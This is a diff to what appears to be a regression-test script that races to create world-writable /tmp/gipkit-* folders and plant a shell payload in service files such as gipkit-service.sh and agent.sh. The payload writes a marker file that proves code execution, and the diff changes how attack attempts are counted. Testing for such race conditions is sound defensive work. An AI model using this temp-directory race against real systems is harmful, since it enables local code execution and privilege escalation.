@@ -6,11 +6,13 @@ const until = Date.now() + Number(process.argv[2] ?? '60') * 1000;
 const payload = '#!/bin/sh\nid -u > /tmp/gk-atk-pwned-$(id -u)\n';
 const seen = /\/tmp\/gipkit-[A-Za-z0-9._-]+/g;
 let attempts = 0;
+// Every gipkit folder it went for counts, whether or not the guest let it in: the test checks it really raced.
 const attack = (folder) => {
-  try { fs.mkdirSync(folder, { mode: 0o777 }); fs.chmodSync(folder, 0o777); attempts++; } catch {}
+  attempts++;
+  try { fs.mkdirSync(folder, { mode: 0o777 }); fs.chmodSync(folder, 0o777); } catch {}
   for (const name of ['gipkit-service.sh', 'gipkit-service.run', 'VERSION', 'agent.sh']) {
     const path = `${folder}/${name}`;
-    try { fs.rmSync(path, { force: true }); fs.writeFileSync(path, payload, { mode: 0o777 }); attempts++; } catch {}
+    try { fs.rmSync(path, { force: true }); fs.writeFileSync(path, payload, { mode: 0o777 }); } catch {}
   }
 };
 while (Date.now() < until) {
